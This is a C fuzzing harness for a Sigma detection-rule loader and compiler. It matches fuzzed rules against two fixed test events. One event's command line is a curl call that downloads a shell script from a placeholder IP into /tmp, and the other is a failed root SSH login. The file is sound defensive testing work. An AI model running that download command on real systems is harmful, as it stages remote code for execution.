/* Fuzzes the Sigma loader and compiler (YAML documents to rules, modifiers, conditions,
 * correlations), then evaluates the surviving rules against two fixed events. */
#include "detect/sigma.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct sigma_ruleset *rs;
	struct sigma_scratch *sc;
	struct host_event ev;

	if (size > 1u << 20)
		return 0;
	sigma_ruleset_new(&rs);
	sigma_ruleset_load_text(rs, "fuzz", (const char *)data, size);
	sigma_ruleset_compile(rs);
	sc = sigma_scratch_new();
	host_event_init(&ev);
	host_event_reset(&ev, EVENT_PROCESS_EXEC, 1);
	host_event_set_str(&ev, EF_IMAGE, "/usr/bin/Curl");
	host_event_set_str(&ev, EF_COMMAND_LINE, "curl -s http://203.0.113.9/a.sh -o /tmp/x");
	host_event_set_str(&ev, EF_PARENT_IMAGE, "/bin/bash");
	host_event_set_str(&ev, EF_PID, "4242");
	sigma_match(rs, &ev, sc, NULL, NULL);
	host_event_reset(&ev, EVENT_LOG_LINE, 1);
	host_event_set_str(&ev, EF_SERVICE, "sshd");
	host_event_set_str(&ev, EF_MESSAGE, "Failed password for root from 198.51.100.1 port 22");
	sigma_match(rs, &ev, sc, NULL, NULL);
	host_event_free(&ev);
	sigma_scratch_free(sc);
	sigma_ruleset_free(rs);
	return 0;
}
